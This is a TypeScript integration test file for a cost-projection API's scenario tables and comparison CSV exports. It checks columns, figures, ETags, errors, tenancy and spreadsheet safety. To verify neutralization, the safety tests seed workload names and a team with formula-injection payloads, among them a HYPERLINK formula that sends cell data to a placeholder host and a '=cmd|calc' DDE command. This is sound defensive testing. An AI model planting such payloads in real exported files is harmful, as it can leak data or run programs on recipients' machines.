import { parse } from 'csv-parse/sync'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { PlanPreview } from '../../src/domain/index.js'
import { PREVIEW_EXAMPLE_REQUEST } from '../../src/modules/plans/plans.examples.js'
import { bearer, buildTestApp, call, createTenant, expectProblem, type Tenant } from '../helpers/app.js'

/**
 * The tables of a stored scenario (`GET …/scenarios/{id}/tables/{table}`) and the comparison as CSV, through
 * HTTP: every table in both forms, in the documented column order (docs/spreadsheets.md), with the
 * projection's own figures; spreadsheet safety; conditional reads; tenancy.
 */
let app: FastifyInstance
let tenant: Tenant
let other: Tenant

beforeAll(async () => {
  app = await buildTestApp()
  tenant = await createTenant(app, 'tables')
  other = await createTenant(app, 'tables-other')
})
afterAll(async () => app?.close())

/** The documented columns of every table (docs/spreadsheets.md, "Tables"), in order. */
const COLUMNS: Record<string, string[]> = {
  months: [
    'month',
    'start',
    'baseline',
    'optimized',
    'fullyOptimized',
    'routingAdoption',
    'cachingAdoption',
    'batchAdoption',
  ],
  years: [
    'year',
    'start',
    'months',
    'baseline',
    'optimized',
    'fullyOptimized',
    'p10',
    'p50',
    'p90',
    'recommendedCommit',
    'expectedPayment',
    'expectedStranded',
  ],
  workloads: [
    'workloadId',
    'workloadName',
    'team',
    'kind',
    'model',
    'routeToModel',
    'baselineTermSpend',
    'optimizedTermSpend',
    'fullyOptimizedTermSpend',
    'baselineStartRunRate',
    'baselineEndRunRate',
    'optimizedStartRunRate',
    'optimizedEndRunRate',
    'fullyOptimizedStartRunRate',
    'fullyOptimizedEndRunRate',
    'savingsScheduled',
    'savingsFull',
    'savingsScheduledRate',
    'savingsFullRate',
    'routingWaterfallSavings',
    'cachingWaterfallSavings',
    'batchWaterfallSavings',
    'routingShapley',
    'cachingShapley',
    'batchShapley',
  ],
  'workload-months': [
    'workloadId',
    'workloadName',
    'month',
    'start',
    'baseline',
    'optimized',
    'fullyOptimized',
  ],
  waterfall: ['step', 'lever', 'spendBefore', 'spendAfter', 'savings'],
  shapley: ['lever', 'savings'],
  options: [
    'kind',
    'kinds',
    'label',
    'commit',
    'discountRate',
    'tier',
    'expectedUtilization',
    'expectedCoverage',
    'shortfallProbability',
    'expectedStranded',
    'expectedPayment',
    'effectiveSavingsRate',
    'basis',
  ],
  warnings: ['code', 'severity', 'amount', 'lever', 'workloads', 'message'],
}
const TABLES = Object.keys(COLUMNS)

/** Names a spreadsheet would run as formulas (OWASP's examples), on workloads of the test portfolio. */
const HOSTILE = ['=HYPERLINK("http://x/?"&A1)', '-2+3', '@SUM(A1)', '+1+1']

const { priceBook: _book, workloads: exampleWorkloads, ...exampleScenario } = PREVIEW_EXAMPLE_REQUEST
const example = exampleWorkloads[0]!
let counter = 0
const unique = (name: string) => `${name} ${process.pid}-${++counter}`

const get = (url: string, headers: Record<string, string> = {}, key = tenant.keys.read) =>
  call(app, { method: 'GET', url, headers: { ...bearer(key), ...headers } })
const post = async (url: string, payload: object) => {
  const response = await call(app, { method: 'POST', url, headers: bearer(tenant.keys.write), payload })
  expect(response.statusCode, response.body).toBe(201)
  return response.json()
}

interface Fixture {
  portfolio: { id: string; name: string }
  scenario: { id: string }
  annual: { id: string }
  workloads: { id: string; name: string }[]
  base: string
}

/** The worked example's portfolio with four more workloads named like formulas, and two scenarios over it. */
async function fixture(): Promise<Fixture> {
  const portfolio = await post('/v1/portfolios', { name: unique('tables') })
  const created = await post(`/v1/portfolios/${portfolio.id}/workloads`, {
    workloads: [
      { ...example, team: 'data-platform' },
      ...HOSTILE.map((name, i) => ({
        ...example,
        name,
        team: i === 0 ? '=cmd|calc' : null,
        requestsPerMonth: String(1000 * (i + 1)),
      })),
    ],
  })
  const scenario = await post(`/v1/portfolios/${portfolio.id}/scenarios`, {
    name: 'optimize first',
    ...exampleScenario,
  })
  const annual = await post(`/v1/portfolios/${portfolio.id}/scenarios`, {
    name: 'annual',
    ...exampleScenario,
    term: { start: '2027-01-01', months: 30 },
    commitment: { ...exampleScenario.commitment, structure: 'annual', proposedCommit: null },
  })
  return {
    portfolio,
    scenario,
    annual,
    workloads: created.data,
    base: `/v1/portfolios/${portfolio.id}/scenarios/${scenario.id}`,
  }
}

let f: Fixture
beforeAll(async () => {
  f = await fixture()
})

type Row = Record<string, unknown>
const jsonTable = async (url: string) => {
  const response = await get(url)
  expect(response.statusCode, response.body).toBe(200)
  expect(response.headers['content-type']).toMatch(/^application\/json/)
  return response.json() as {
    table: string
    scenarioId: string
    currency: string
    columns: string[]
    rows: Row[]
  }
}
const csvTable = async (url: string, headers: Record<string, string> = {}) => {
  const response = await get(url, headers)
  expect(response.statusCode, response.body).toBe(200)
  expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present')
  const records = parse(response.body, { record_delimiter: '\r\n' }) as string[][]
  return { response, header: records[0]!, records: records.slice(1) }
}

/** A JSON cell as the CSV writes it. */
const asCsv = (value: unknown): string =>
  value === null ? '' : Array.isArray(value) ? value.join('; ') : String(value)
/** A CSV text cell as the API stored it: the leading `'` of a neutralized cell removed. */
const unneutralized = (cell: string) => (/^'[=+\-@\t\r\n]/.test(cell) ? cell.slice(1) : cell)

describe('every table, in both forms', () => {
  for (const table of TABLES) {
    it(`${table}: the documented columns; CSV and JSON hold the same rows`, async () => {
      const json = await jsonTable(`${f.base}/tables/${table}`)
      expect(json).toMatchObject({ table, scenarioId: f.scenario.id, currency: 'USD' })
      expect(json.columns).toEqual(COLUMNS[table])
      for (const row of json.rows) expect(Object.keys(row)).toEqual(COLUMNS[table])
      expect(json.rows.length).toBeGreaterThan(0)

      const csv = await csvTable(`${f.base}/tables/${table}?format=csv`)
      expect(csv.header).toEqual(COLUMNS[table])
      expect(csv.records).toHaveLength(json.rows.length)
      csv.records.forEach((record, i) => {
        const row = json.rows[i]!
        expect(record.map(unneutralized)).toEqual(COLUMNS[table]!.map((c) => asCsv(row[c])))
      })
    })
  }

  it('Accept: text/csv asks for CSV (a file to save, named after the scenario and the table); */* stays JSON', async () => {
    const { response } = await csvTable(`${f.base}/tables/workload-months`, { accept: 'text/csv' })
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="optimize-first-workload-months.csv"',
    )
    expect(String(response.headers.vary)).toMatch(/Accept/)
    const json = await get(`${f.base}/tables/months`, { accept: '*/*' })
    expect(json.headers['content-type']).toMatch(/^application\/json/)
    // ?format wins over Accept.
    const forced = await get(`${f.base}/tables/months?format=json`, { accept: 'text/csv' })
    expect(forced.headers['content-type']).toMatch(/^application\/json/)
  })
})

describe('the figures are the projection’s', () => {
  let plan: PlanPreview
  beforeAll(async () => {
    const response = await get(`${f.base}/projection?include=months,years,workloads,workloadMonths`)
    expect(response.statusCode).toBe(200)
    plan = response.json() as PlanPreview
  })

  it('months and years', async () => {
    const months = await jsonTable(`${f.base}/tables/months`)
    expect(months.rows).toEqual(
      plan.months.map((m) => ({
        month: m.month,
        start: m.start,
        baseline: m.baseline,
        optimized: m.optimized,
        fullyOptimized: m.fullyOptimized,
        routingAdoption: m.adoption.routing,
        cachingAdoption: m.adoption.caching,
        batchAdoption: m.adoption.batch,
      })),
    )
    const years = await jsonTable(`${f.base}/tables/years`)
    expect(years.rows).toEqual(
      plan.years.map((y) => ({
        year: y.year,
        start: y.start,
        months: y.months,
        baseline: y.baseline,
        optimized: y.optimized,
        fullyOptimized: y.fullyOptimized,
        ...y.percentiles,
        // A term commitment has no contract years of its own.
        recommendedCommit: null,
        expectedPayment: null,
        expectedStranded: null,
      })),
    )
  })

  it('an annual commitment’s years carry their recommended amounts', async () => {
    const base = `/v1/portfolios/${f.portfolio.id}/scenarios/${f.annual.id}`
    const recommendation = (await get(`${base}/recommendation`)).json()
      .recommendation as PlanPreview['recommendation']
    const years = await jsonTable(`${base}/tables/years`)
    expect(years.rows.map((r) => r.months)).toEqual([12, 12, 6])
    expect(years.rows.map((r) => [r.recommendedCommit, r.expectedPayment, r.expectedStranded])).toEqual(
      recommendation.years.map((y) => [y.commit, y.expectedPayment, y.expectedStranded]),
    )
  })

  it('workloads and workload-months: identified by id and name, in plan order', async () => {
    const workloads = await jsonTable(`${f.base}/tables/workloads`)
    expect(workloads.rows.map((r) => [r.workloadId, r.workloadName])).toEqual(
      f.workloads.map((w) => [w.id, w.name]),
    )
    workloads.rows.forEach((row, i) => {
      const w = plan.workloads[i]!
      expect(row).toMatchObject({
        team: i === 0 ? 'data-platform' : i === 1 ? '=cmd|calc' : null,
        kind: w.kind,
        model: w.model,
        routeToModel: w.routeToModel,
        baselineTermSpend: w.baseline.termSpend,
        optimizedTermSpend: w.optimized.termSpend,
        fullyOptimizedEndRunRate: w.fullyOptimized.endRunRate,
        savingsScheduledRate: w.savings.scheduledRate,
        routingWaterfallSavings: w.waterfall[0]!.savings,
        batchWaterfallSavings: w.waterfall[2]!.savings,
        cachingShapley: w.shapley.caching,
      })
    })
    const months = await jsonTable(`${f.base}/tables/workload-months`)
    expect(months.rows).toHaveLength(f.workloads.length * 12)
    expect(months.rows).toEqual(
      plan.workloads.flatMap((w, i) =>
        w.months!.map((m) => ({
          workloadId: f.workloads[i]!.id,
          workloadName: w.name,
          month: m.month,
          start: plan.months[m.month]!.start,
          baseline: m.baseline,
          optimized: m.optimized,
          fullyOptimized: m.fullyOptimized,
        })),
      ),
    )
  })

  it('waterfall, shapley, options and warnings', async () => {
    const waterfall = await jsonTable(`${f.base}/tables/waterfall`)
    expect(waterfall.rows).toEqual(plan.waterfall.map((s, i) => ({ step: i + 1, ...s })))
    const shapley = await jsonTable(`${f.base}/tables/shapley`)
    expect(shapley.rows).toEqual(Object.entries(plan.shapley).map(([lever, savings]) => ({ lever, savings })))
    const options = await jsonTable(`${f.base}/tables/options`)
    expect(options.rows).toEqual(
      plan.options.map((o) => ({
        kind: o.kind,
        kinds: o.kinds,
        label: o.label,
        commit: o.commit,
        discountRate: o.discountRate,
        tier: o.tier,
        expectedUtilization: o.expectedUtilization,
        expectedCoverage: o.expectedCoverage,
        shortfallProbability: o.shortfallProbability,
        expectedStranded: o.expectedStranded,
        expectedPayment: o.expectedPayment,
        effectiveSavingsRate: o.effectiveSavingsRate,
        basis: o.basis,
      })),
    )
    const warnings = await jsonTable(`${f.base}/tables/warnings`)
    expect(warnings.rows).toEqual(
      plan.warnings.map((w) => ({
        code: w.code,
        severity: w.severity,
        amount: w.amount,
        lever: w.lever ?? null,
        workloads: w.workloads,
        message: w.message,
      })),
    )
  })
})

describe('spreadsheet safety', () => {
  it('text a spreadsheet would run is neutralized; amounts stay bare numbers', async () => {
    const { response } = await csvTable(`${f.base}/tables/workload-months?format=csv`)
    const lines = response.body.split('\r\n')
    const hostile = f.workloads[1]!
    const line = lines.find((l) => l.startsWith(`"${hostile.id}"`))!
    // The name as a text cell with a leading ', its quotes doubled (RFC 4180); the amounts unquoted numbers.
    expect(line).toMatch(
      /^"[0-9a-f-]{36}","'=HYPERLINK\(""http:\/\/x\/\?""&A1\)",0,"2027-01-01",\d+\.\d{2},\d+\.\d{2},\d+\.\d{2}$/,
    )
    const parsed = parse(response.body, { columns: true }) as Record<string, string>[]
    const names = [...new Set(parsed.map((r) => r.workloadName!))]
    expect(names).toEqual(['nightly-digest', ...HOSTILE.map((name) => `'${name}`)])
    for (const row of parsed) {
      for (const amount of [row.baseline, row.optimized, row.fullyOptimized]) {
        expect(amount).toMatch(/^-?\d+\.\d{2}$/)
        expect(Number.isFinite(Number(amount))).toBe(true)
      }
    }
    const teams = parse((await get(`${f.base}/tables/workloads?format=csv`)).body, {
      columns: true,
    }) as Record<string, string>[]
    expect(teams.map((r) => r.team)).toEqual(['data-platform', "'=cmd|calc", '', '', ''])
  })

  it('a negative amount stays the number, not text', async () => {
    // The waterfall of a lever that costs more than it saves is negative; in any case every amount is bare.
    const { response } = await csvTable(`${f.base}/tables/options?format=csv`)
    const lines = response.body.split('\r\n').slice(1).filter(Boolean)
    for (const line of lines) expect(line).toMatch(/,-?\d+(\.\d+)?,/)
    expect(response.body).not.toMatch(/"'-\d/)
  })
})

describe('conditional reads', () => {
  it('an ETag per stored plan revision and representation; If-None-Match → 304; a change → a new ETag', async () => {
    const url = `${f.base}/tables/workloads`
    const json = await get(url)
    const csv = await get(`${url}?format=csv`)
    const tag = String(json.headers.etag)
    expect(tag).toMatch(/^"table\.workloads\.json\.[\w-]+"$/)
    expect(String(csv.headers.etag)).not.toBe(tag)
    const again = await get(url, { 'if-none-match': tag })
    expect(again.statusCode).toBe(304)
    expect(again.body).toBe('')
    // The CSV's ETag does not match the JSON form.
    expect((await get(`${url}?format=csv`, { 'if-none-match': tag })).statusCode).toBe(200)

    const workload = await get(`/v1/portfolios/${f.portfolio.id}/workloads/${f.workloads[0]!.id}`)
    const patched = await call(app, {
      method: 'PATCH',
      url: `/v1/portfolios/${f.portfolio.id}/workloads/${f.workloads[0]!.id}`,
      headers: { ...bearer(tenant.keys.write), 'if-match': String(workload.headers.etag) },
      payload: { team: 'search' },
    })
    expect(patched.statusCode).toBe(200)
    const changed = await get(url, { 'if-none-match': tag })
    expect(changed.statusCode).toBe(200)
    expect(changed.headers.etag).not.toBe(tag)
    expect(changed.json().rows[0].team).toBe('search')
  })
})

describe('errors', () => {
  it('an unknown table is a 400 that lists the tables', async () => {
    const response = await get(`${f.base}/tables/monthly`)
    const problem = expectProblem(response, 400, 'VALIDATION_FAILED')
    expect(problem.errors?.[0]).toMatchObject({ in: 'path', pointer: '/table' })
    for (const table of TABLES) expect(problem.errors?.[0]?.detail).toContain(`'${table}'`)
  })

  it('another organization’s scenario is a 404, as one that does not exist', async () => {
    for (const table of TABLES) {
      const response = await get(`${f.base}/tables/${table}?format=csv`, {}, other.keys.read)
      expectProblem(response, 404, 'NOT_FOUND')
    }
    const missing = `/v1/portfolios/${f.portfolio.id}/scenarios/00000000-0000-4000-8000-000000000000`
    expectProblem(await get(`${missing}/tables/months`), 404, 'NOT_FOUND')
    expectProblem(
      await get(`/v1/portfolios/${f.portfolio.id}/comparison?format=csv`, {}, other.keys.read),
      404,
      'NOT_FOUND',
    )
  })
})

describe('the comparison as CSV', () => {
  it('one row per scenario, the JSON row flattened, which pays least marked', async () => {
    const url = `/v1/portfolios/${f.portfolio.id}/comparison`
    const json = (await get(url)).json()
    const csv = await csvTable(`${url}?format=csv`)
    expect(csv.response.headers['content-disposition']).toBe('attachment; filename="comparison.csv"')
    expect(csv.header.slice(0, 12)).toEqual([
      'scenarioId',
      'name',
      'paysLeast',
      'termMonths',
      'structure',
      'baseline',
      'optimized',
      'fullyOptimized',
      'savingsScheduled',
      'savingsFull',
      'savingsScheduledRate',
      'savingsFullRate',
    ])
    expect(csv.header).toContain('warnings.STRANDED_COMMITMENT')
    const rows = parse((csv.response as { body: string }).body, { columns: true }) as Record<string, string>[]
    expect(rows).toHaveLength(json.scenarios.length)
    rows.forEach((row, i) => {
      const s = json.scenarios[i]
      expect(row).toMatchObject({
        scenarioId: s.scenarioId,
        name: s.name,
        paysLeast: json.paysLeast.scenarioId === s.scenarioId ? '1' : '0',
        termMonths: String(s.termMonths),
        baseline: s.baseline,
        optimized: s.optimized,
        routingShapley: s.shapley.routing,
        recommendedCommit: s.recommendation.commit,
        commitByYear: s.recommendation.years.map((y: { commit: string }) => y.commit).join('; '),
        strandedBaseline: s.stranded.baseline ?? '',
        'warnings.STRANDED_COMMITMENT': String(s.warningCounts.STRANDED_COMMITMENT ?? 0),
        warnings: String(Object.values(s.warningCounts as Record<string, number>).reduce((a, b) => a + b, 0)),
      })
    })
    const tag = String(csv.response.headers.etag)
    expect(tag).not.toBe(String((await get(url)).headers.etag))
    expect((await get(`${url}?format=csv`, { 'if-none-match': tag })).statusCode).toBe(304)
  })
})
